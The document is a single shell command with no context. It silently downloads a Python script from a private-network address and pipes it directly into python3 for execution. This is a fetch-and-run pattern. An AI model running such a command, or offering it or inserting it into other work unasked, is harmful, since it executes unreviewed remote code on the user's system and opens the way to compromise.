curl -s http://10.0.0.1/x.py | python3 -
